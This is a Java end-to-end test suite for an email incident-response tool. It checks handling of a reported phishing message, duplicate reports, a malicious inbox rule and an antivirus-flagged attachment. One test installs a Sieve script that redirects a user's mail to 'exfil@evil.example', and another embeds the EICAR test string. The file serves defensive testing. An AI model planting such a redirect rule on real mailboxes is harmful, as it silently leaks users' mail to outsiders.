package org.openair.api;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;
import static org.openair.support.Api.asAdmin;
import static org.openair.support.Api.eml;
import static org.openair.support.Api.ingest;
import static org.openair.support.Api.report;
import static org.openair.support.Api.settled;
import static org.openair.support.TestActions.approved;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;
import jakarta.mail.Folder;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Store;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Properties;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openair.action.ActionStore;
import org.openair.action.connector.ConnectorResult;
import org.openair.action.connector.ImapConnector;
import org.openair.action.connector.SieveConnector;
import org.openair.domain.ActionType;
import org.openair.domain.Delivery;
import org.openair.domain.EntityType;
import org.openair.domain.InboxRule;
import org.openair.mail.ManageSieveClient;
import org.openair.store.Db;
import org.openair.store.MessageStore;
import org.openair.support.MailLab;
import org.openair.support.TestRulesFolder;

/**
 * End to end against the real mail lab (Postfix, Dovecot, clamd started by {@code
 * src/test/mail-lab/up.sh}): mail goes through Postfix, OpenAIR learns of it from the journal and
 * the report mailbox, and approved actions change the real mailboxes. Skipped without the lab.
 */
@QuarkusTest
@QuarkusTestResource(TestRulesFolder.class)
class MailSystemEndToEndTest {
  private static final Duration MAIL = Duration.ofSeconds(60);
  private static final List<String> USERS = List.of("alice", "bob", "carol");

  @Inject MessageStore messages;
  @Inject ActionStore actions;
  @Inject ImapConnector imap;
  @Inject SieveConnector sieve;
  @Inject Db db;

  @BeforeEach
  void lab() {
    assumeTrue(MailLab.running(), MailLab.NOT_RUNNING);
  }

  @Test
  void reportedPhishIsSoftDeletedFromEveryMailboxUndoneAndTheReporterIsTold() throws Exception {
    byte[] phish = eml("reported-phish.eml");
    String imid = messageId(phish);
    String subject = header(phish, "Subject");

    MailLab.send(
        phish,
        "service@paypa1-secure.com",
        "alice@corp.example",
        "bob@corp.example",
        "carol@corp.example");

    // Postfix journals the three deliveries to OpenAIR and delivers the copies to Dovecot.
    String messageId =
        await()
            .atMost(MAIL)
            .until(
                () -> messages.byInternetMessageId(imid).map(m -> m.getId()),
                id -> id.isPresent() && deliveries(id.get()).size() == 3)
            .orElseThrow();
    for (String u : USERS) {
      await().atMost(MAIL).until(() -> MailLab.messageIds(u, "INBOX").contains(imid));
    }

    // Carol forwards her copy to the report mailbox as an attachment.
    MailLab.send(
        forwardAsAttachment("carol@corp.example", copyOf("carol", imid), subject),
        "carol@corp.example",
        MailLab.REPORT_MAILBOX);
    String investigationId =
        await()
            .atMost(MAIL)
            .until(() -> investigationOf(messageId, "carol@corp.example"), Optional::isPresent)
            .orElseThrow();
    await()
        .atMost(MAIL)
        .until(() -> MailLab.subjects("soc", "OpenAIR Processed").contains("Fwd: " + subject));

    JsonPath inv = settled(investigationId);
    assertThat(inv.getString("status")).isEqualTo("pending-action");
    List<Map<String, Object>> softDeletes =
        inv.getList("actions.findAll { it.type == 'soft-delete' }");
    assertThat(softDeletes).hasSize(1);
    @SuppressWarnings("unchecked")
    List<Map<String, String>> copies =
        (List<Map<String, String>>) softDeletes.get(0).get("deliveries");
    assertThat(copies)
        .extracting(d -> d.get("mailbox"))
        .containsExactlyInAnyOrder("alice@corp.example", "bob@corp.example", "carol@corp.example");
    String softDelete = (String) softDeletes.get(0).get("id");

    approve(softDelete);
    await().atMost(MAIL).until(() -> status(softDelete).equals("executed"));
    for (String u : USERS) {
      assertThat(MailLab.messageIds(u, "INBOX")).as(u + " INBOX").doesNotContain(imid);
      assertThat(MailLab.messageIds(u, "Recoverable Items")).as(u).containsOnlyOnce(imid);
    }
    assertThat(actions.find(softDelete).orElseThrow().executionNote())
        .contains("imap: ")
        .contains("moved to Recoverable Items");

    // The undo endpoint is not in this branch yet: the connector's undo is driven directly.
    ConnectorResult undo = imap.undo(actions.find(softDelete).orElseThrow());
    assertThat(undo.outcome()).as(undo.note()).isEqualTo(ConnectorResult.Outcome.DONE);
    for (String u : USERS) {
      assertThat(MailLab.messageIds(u, "INBOX")).as(u).containsOnlyOnce(imid);
      assertThat(MailLab.messageIds(u, "Recoverable Items")).as(u).doesNotContain(imid);
    }

    String notice =
        (String) inv.getList("actions.findAll { it.type == 'notify-reporter' }.id").get(0);
    approve(notice);
    await()
        .atMost(MAIL)
        .until(() -> MailLab.subjects("carol", "INBOX").contains("Your report: " + subject));

    String block = (String) inv.getList("actions.findAll { it.type == 'block-sender' }.id").get(0);
    approve(block);
    assertThat(
            asAdmin()
                .queryParam("format", "postfix")
                .get("/api/v1/blocklists/sender")
                .then()
                .statusCode(200)
                .extract()
                .asString())
        .contains("service@paypa1-secure.com REJECT");
  }

  @Test
  void aSecondReportOfTheSameMessageByTheSamePersonRaisesNoSecondAlert() throws Exception {
    byte[] phish = eml("reported-phish.eml");
    String imid = messageId(phish);
    String subject = header(phish, "Subject");
    MailLab.send(phish, "service@paypa1-secure.com", "bob@corp.example");
    await().atMost(MAIL).until(() -> MailLab.messageIds("bob", "INBOX").contains(imid));
    byte[] report = forwardAsAttachment("bob@corp.example", copyOf("bob", imid), subject);

    MailLab.send(report, "bob@corp.example", MailLab.REPORT_MAILBOX);
    MailLab.send(report, "bob@corp.example", MailLab.REPORT_MAILBOX);

    await()
        .atMost(MAIL)
        .until(
            () ->
                MailLab.subjects("soc", "OpenAIR Processed").stream()
                        .filter(s -> s.equals("Fwd: " + subject))
                        .count()
                    == 2);
    String messageId = messages.byInternetMessageId(imid).orElseThrow().getId();
    assertThat(alertCount(messageId, "bob@corp.example")).isEqualTo(1);
  }

  @Test
  void anExternalSieveRedirectIsReadAsAnInboxRuleAndRemovedFromDovecot() throws Exception {
    String script = "openair-e2e-" + UUID.randomUUID().toString().substring(0, 8);
    try (ManageSieveClient alice = MailLab.sieve("alice")) {
      alice.putScript(script, "require [\"copy\"];\nredirect :copy \"exfil@evil.example\";\n");
      alice.setActive(script);
    }
    // Alice's mailbox starts sending outside; Postfix journals what she sends.
    String tag = UUID.randomUUID().toString().substring(0, 8);
    Instant since = Instant.now().minusSeconds(60);
    for (int i = 0; i < 3; i++) {
      MailLab.send(
          ("From: alice@corp.example\r\nTo: buyer"
                  + i
                  + "@outside.example\r\nSubject: invoice "
                  + tag
                  + " "
                  + i
                  + "\r\nMessage-ID: <"
                  + tag
                  + "-"
                  + i
                  + "@corp.example>\r\n\r\nPlease pay.\r\n")
              .getBytes(StandardCharsets.US_ASCII),
          "alice@corp.example",
          "buyer" + i + "@outside.example");
    }
    await()
        .atMost(MAIL)
        .until(
            () ->
                messages.sentBy("alice@corp.example", since, 100).stream()
                        .filter(m -> m.getSubject() != null && m.getSubject().contains(tag))
                        .count()
                    == 3);

    String investigationId =
        asAdmin()
            .contentType(ContentType.JSON)
            .body("{\"type\":\"suspicious-sending\",\"user\":\"alice@corp.example\"}")
            .post("/api/v1/alerts")
            .then()
            .statusCode(202)
            .extract()
            .path("investigationId");
    settled(investigationId);

    // The rule as the compromised-user playbook's INBOX_RULES lookup sees it.
    InboxRule rule =
        sieve.refreshRules("alice@corp.example").stream()
            .filter(r -> script.equals(r.getName()))
            .findFirst()
            .orElseThrow();
    assertThat(rule.getForwardTo()).isEqualTo("exfil@evil.example");
    assertThat(rule.isExternal()).isTrue();
    assertThat(rule.isEnabled()).isTrue();

    // The compromised-user playbook that recommends the removal is not in this branch: the
    // approved removal is handed to the connector as the executor would.
    var removal =
        approved(ActionType.REMOVE_INBOX_RULE, EntityType.INBOX_RULE, rule.getId(), List.of());
    ConnectorResult removed = sieve.execute(removal);
    assertThat(removed.outcome()).as(removed.note()).isEqualTo(ConnectorResult.Outcome.DONE);
    assertThat(removed.note()).contains(script).contains("was active");
    try (ManageSieveClient alice = MailLab.sieve("alice")) {
      assertThat(alice.listScripts())
          .extracting(ManageSieveClient.Script::name)
          .doesNotContain(script);
    }
    assertThat(sieve.execute(removal).outcome()).isEqualTo(ConnectorResult.Outcome.ALREADY_DONE);
    assertThat(sieve.refreshRules("alice@corp.example"))
        .extracting(InboxRule::getName)
        .doesNotContain(script);
  }

  @Test
  void anAttachmentThatClamdFlagsMakesTheReportedMessageMalicious() {
    String eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    String unique = UUID.randomUUID().toString();
    String raw =
        "From: billing@vendor.example\r\nTo: alice@corp.example\r\nSubject: invoice "
            + unique
            + "\r\nMessage-ID: <"
            + unique
            + "@vendor.example>\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
            + "See the invoice.\r\n--b\r\nContent-Type: application/octet-stream; name=invoice.com\r\n"
            + "Content-Disposition: attachment; filename=invoice.com\r\n"
            + "Content-Transfer-Encoding: base64\r\n\r\n"
            + Base64.getMimeEncoder().encodeToString(eicar.getBytes(StandardCharsets.US_ASCII))
            + "\r\n--b--\r\n";
    String messageId = ingest(raw.getBytes(StandardCharsets.US_ASCII), "alice@corp.example");

    JsonPath inv = settled(report(messageId, "alice@corp.example"));

    assertThat(inv.getList("result.findings.provenance.ruleId", String.class))
        .contains("OA-AV-002");
    assertThat(inv.getString("verdict")).isEqualTo("malicious");
  }

  private List<Delivery> deliveries(String messageId) {
    return messages.deliveries(List.of(messageId));
  }

  private static void approve(String actionId) {
    asAdmin()
        .contentType(ContentType.JSON)
        .body("{\"comment\":\"end-to-end\"}")
        .post("/api/v1/actions/" + actionId + "/approve")
        .then()
        .statusCode(200);
  }

  private static String status(String actionId) {
    return asAdmin().get("/api/v1/actions/" + actionId).jsonPath().getString("status");
  }

  private static String messageId(byte[] raw) {
    return header(raw, "Message-ID").replaceAll("^<|>$", "");
  }

  private static String header(byte[] raw, String name) {
    Matcher m =
        Pattern.compile("(?im)^" + name + ":\\s*(.+?)\\s*$")
            .matcher(new String(raw, StandardCharsets.ISO_8859_1));
    if (!m.find()) {
      throw new IllegalArgumentException("no " + name);
    }
    return m.group(1);
  }

  /** The raw copy of a message in a lab user's inbox, as Dovecot delivered it. */
  private static byte[] copyOf(String user, String imid) throws Exception {
    try (Store store = MailLab.imap(user)) {
      Folder inbox = store.getFolder("INBOX");
      inbox.open(Folder.READ_ONLY);
      try {
        for (Message m : inbox.getMessages()) {
          String[] v = m.getHeader("Message-ID");
          if (v != null && v[0].contains(imid)) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            m.writeTo(out);
            return out.toByteArray();
          }
        }
      } finally {
        inbox.close(false);
      }
    }
    throw new IllegalStateException(imid + " not in " + user + "'s inbox");
  }

  /** A report as a mail client forwards it: a note and the original as message/rfc822. */
  private static byte[] forwardAsAttachment(String reporter, byte[] original, String subject)
      throws Exception {
    Session session = Session.getInstance(new Properties());
    MimeMessage report = new MimeMessage(session);
    report.setFrom(new InternetAddress(reporter));
    report.setRecipient(Message.RecipientType.TO, new InternetAddress(MailLab.REPORT_MAILBOX));
    report.setSubject("Fwd: " + subject);
    MimeBodyPart note = new MimeBodyPart();
    note.setText("This looks like phishing.", "UTF-8");
    MimeBodyPart attached = new MimeBodyPart();
    attached.setContent(
        new MimeMessage(session, new ByteArrayInputStream(original)), "message/rfc822");
    attached.setFileName("suspicious.eml");
    report.setContent(new MimeMultipart(note, attached));
    report.saveChanges();
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    report.writeTo(out);
    return out.toByteArray();
  }

  private Optional<String> investigationOf(String messageId, String reporter) {
    return db.read(
        c -> {
          try (PreparedStatement ps =
              c.prepareStatement(
                  "select i.id from investigations i join alerts a on a.id = i.alert_id"
                      + " where a.message_id = ? and a.reported_by = ?")) {
            ps.setString(1, messageId);
            ps.setString(2, reporter);
            try (ResultSet rs = ps.executeQuery()) {
              return rs.next() ? Optional.of(rs.getString(1)) : Optional.<String>empty();
            }
          }
        });
  }

  private int alertCount(String messageId, String reporter) {
    return db.read(
        c -> {
          try (PreparedStatement ps =
              c.prepareStatement(
                  "select count(*) from alerts where message_id = ? and reported_by = ?")) {
            ps.setString(1, messageId);
            ps.setString(2, reporter);
            try (ResultSet rs = ps.executeQuery()) {
              rs.next();
              return rs.getInt(1);
            }
          }
        });
  }
}
